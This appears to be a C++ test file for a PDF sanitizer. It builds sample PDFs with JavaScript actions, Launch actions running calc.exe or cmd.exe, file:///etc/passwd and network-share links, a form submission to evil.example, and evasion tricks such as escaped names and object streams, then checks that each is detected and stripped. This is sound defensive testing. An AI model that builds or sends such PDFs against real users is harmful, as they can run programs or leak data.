// PDF: what acts.
#include "tests/sanitizer/rows/made_by.h"
#include "tests/sanitizer/rows/p_samples.h"
#include "tests/sanitizer/rows/row.h"

namespace sekisho::rows {

Row P01() {
    return {.made = {{.name = "script-in-names.pdf",
                      .make = catalog<"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert(1))>>]>>>>">,
                      .found = {Finding::pdf_javascript},
                      .gone = {"/JavaScript", "app.alert"},
                      .kept = {"Hello"}},
                     {.name = "script-in-link.pdf",
                      .make = link<"/S/JavaScript/JS(app.alert(1))">,
                      .found = {Finding::pdf_javascript},
                      .gone = {"/JavaScript", "app.alert"},
                      .kept = {"Hello"}},
                     {.name = "script-after-jump.pdf",
                      .make = link<"/S/GoTo/D[3 0 R/Fit]/Next<</S/JavaScript/JS(app.alert(1))>>">,
                      .found = {Finding::pdf_javascript},
                      .gone = {"/Next", "app.alert"},
                      .kept = {"Hello"}}},
            .also_refused = {Reason::input_damaged, Reason::pdf_no_pages},
            .never = {"/S/JavaScript"}};
}

Row P02() {
    return {.made = {{.name = "script-on-opening.pdf",
                      .make = catalog<"/OpenAction<</S/JavaScript/JS(app.alert(1))>>">,
                      .found = {Finding::pdf_open_action, Finding::pdf_javascript},
                      .gone = {"/OpenAction", "app.alert"},
                      .kept = {"Hello"}},
                     {.name = "script-behind-opening.pdf",
                      .make = catalog<"/OpenAction<</S/GoTo/D[3 0 R/Fit]/Next<</S/Launch/F(calc.exe)>>>>">,
                      .found = {Finding::pdf_open_action, Finding::pdf_launch},
                      .gone = {"/Launch", "calc.exe"},
                      .kept = {"Hello", "/OpenAction"}}},
            .also_found = {Finding::pdf_javascript, Finding::pdf_additional_action},
            .never = {"/S/JavaScript"}};
}

Row P03() {
    return {.made = {{.name = "event-of-document.pdf",
                      .make = catalog<"/AA<</WC<</S/JavaScript/JS(app.alert(1))>>>>">,
                      .found = {Finding::pdf_additional_action},
                      .gone = {"/AA", "app.alert"},
                      .kept = {"Hello"}},
                     {.name = "event-of-page.pdf",
                      .make = page<"/AA<</O<</S/Launch/F(calc.exe)>>>>">,
                      .found = {Finding::pdf_additional_action},
                      .gone = {"/AA", "calc.exe"},
                      .kept = {"Hello"}},
                     {.name = "event-of-annotation.pdf",
                      .make = annotation<"/Subtype/Square/AA<</E<</S/Launch/F(calc.exe)>>>>">,
                      .found = {Finding::pdf_additional_action},
                      .gone = {"/AA", "calc.exe"},
                      .kept = {"Hello"}}},
            .also_found = {Finding::pdf_javascript},
            .never = {"/S/JavaScript"}};
}

Row P04() {
    return {.made = {{.name = "launch.pdf",
                      .make = link<"/S/Launch/Win<</F(cmd.exe)>>">,
                      .found = {Finding::pdf_launch},
                      .gone = {"/Launch", "cmd.exe"},
                      .kept = {"Hello"}}},
            .never = {"/S/Launch"}};
}

Row P05() {
    return {.made = {{.name = "script-address.pdf",
                      .make = link<"/S/URI/URI(javascript:alert)">,
                      .found = {Finding::pdf_uri},
                      .gone = {"javascript:"},
                      .kept = {"Hello"}},
                     {.name = "file-address.pdf",
                      .make = link<"/S/URI/URI(file:///etc/passwd)">,
                      .found = {Finding::pdf_uri},
                      .gone = {"file:", "passwd"},
                      .kept = {"Hello"}},
                     {.name = "share-address.pdf",
                      .make = link<"/S/URI/URI(\\\\\\\\server\\\\share)">,
                      .found = {Finding::pdf_uri},
                      .gone = {"server"},
                      .kept = {"Hello"}},
                     {.name = "address-with-control.pdf",
                      .make = link<"/S/URI/URI(http://a\\001b)">,
                      .found = {Finding::pdf_uri},
                      .gone = {"http:"},
                      .kept = {"Hello"}},
                     {.name = "base-of-addresses.pdf",
                      .make =
                          [] {
                              tests::PdfSample sample;
                              sample.catalog = "/URI<</Base(file:///server/)>>";
                              sample.page =
                                  "/Annots[<</Type/Annot/Subtype/Link/Rect[1 1 9 9]/A<</S/URI/URI(page.html)>>>>]";
                              return sample.bytes();
                          },
                      .found = {Finding::pdf_uri},
                      .gone = {"file:", "page.html"},
                      .kept = {"Hello"}}},
            .also_plain = true,
            .never = {"/URI(javascript:", "/URI(file:", "/URI(data:"}};
}

Row P06() {
    return {.made = {{.name = "send-form.pdf",
                      .make = link<"/S/SubmitForm/F(http://evil.example)">,
                      .found = {Finding::pdf_submit_form},
                      .gone = {"/SubmitForm", "evil.example"},
                      .kept = {"Hello"}},
                     {.name = "reset-form.pdf",
                      .make = link<"/S/ResetForm">,
                      .found = {Finding::pdf_submit_form},
                      .gone = {"/ResetForm"},
                      .kept = {"Hello"}}},
            .also_found = {Finding::pdf_form},
            .never = {"/SubmitForm", "/ResetForm"}};
}

Row P07() {
    return {.made = {{.name = "import-data.pdf",
                      .make = link<"/S/ImportData/F(data.fdf)">,
                      .found = {Finding::pdf_import_data},
                      .gone = {"/ImportData", "data.fdf"},
                      .kept = {"Hello"}}},
            .never = {"/ImportData"}};
}

Row P08() {
    return {.made = {{.name = "jump-to-file.pdf",
                      .make = link<"/S/GoToR/F(\\\\\\\\server\\\\a.pdf)/D[0/Fit]">,
                      .found = {Finding::pdf_remote_goto},
                      .gone = {"/GoToR", "server"},
                      .kept = {"Hello"}},
                     {.name = "jump-to-embedded.pdf",
                      .make = link<"/S/GoToE/T<</R/C/N(a)>>">,
                      .found = {Finding::pdf_remote_goto},
                      .gone = {"/GoToE"},
                      .kept = {"Hello"}},
                     {.name = "thread-of-file.pdf",
                      .make = link<"/S/Thread/F(other.pdf)/D 0">,
                      .found = {Finding::pdf_remote_goto},
                      .gone = {"/Thread", "other.pdf"},
                      .kept = {"Hello"}}},
            .also_plain = true,
            .never = {"/GoToR", "/GoToE"}};
}

Row P18() {
    return {.made = {{.name = "script-in-object-stream.pdf",
                      .make =
                          [] {
                              return made_by(
                                  "qpdf --object-streams=generate --compress-streams=y in out || test $? = 3",
                                  link<"/S/JavaScript/JS(app.alert(1))">());
                          },
                      .found = {Finding::pdf_javascript},
                      .gone = {"/JavaScript", "app.alert"},
                      .kept = {"Hello"}},
                     {.name = "entry-on-no-list.pdf",
                      .make = page<"/EvilKey(evil)">,
                      .found = {Finding::pdf_unlisted},
                      .gone = {"EvilKey", "(evil)"},
                      .kept = {"Hello"}}},
            .also_refused = {Reason::pdf_dynamic_form},
            .also_plain = true,
            .never = {"/JavaScript", "/ObjStm"}};
}

Row P19() {
    return {.made = {{.name = "escaped-names.pdf",
                      .make = link<"/S/J#61vaScript/J#53(app.alert(1))">,
                      .found = {Finding::pdf_javascript},
                      .gone = {"/JavaScript", "J#61", "app.alert"},
                      .kept = {"Hello"}}},
            .also_found = {Finding::pdf_open_action, Finding::pdf_repaired},
            .never = {"/S/JavaScript"}};
}

Row P30() {
    return {.made = {{.name = "print-command.pdf",
                      .make = link<"/S/Named/N/Print">,
                      .found = {Finding::pdf_named_action},
                      .gone = {"/Print"},
                      .kept = {"Hello"}},
                     {.name = "hide-command.pdf",
                      .make = link<"/S/Hide/T(a)">,
                      .found = {Finding::pdf_named_action},
                      .gone = {"/Hide"},
                      .kept = {"Hello"}},
                     {.name = "layer-command.pdf",
                      .make = link<"/S/SetOCGState/State[/ON]">,
                      .found = {Finding::pdf_named_action},
                      .gone = {"/SetOCGState"},
                      .kept = {"Hello"}},
                     {.name = "presentation.pdf",
                      .make = page<"/Trans<</S/Dissolve>>/Dur 1">,
                      .found = {Finding::pdf_transition},
                      .gone = {"/Trans", "/Dur"},
                      .kept = {"Hello"}}},
            .also_found = {Finding::pdf_open_action},
            .never = {"/SetOCGState", "/S/Hide"}};
}

} // namespace sekisho::rows
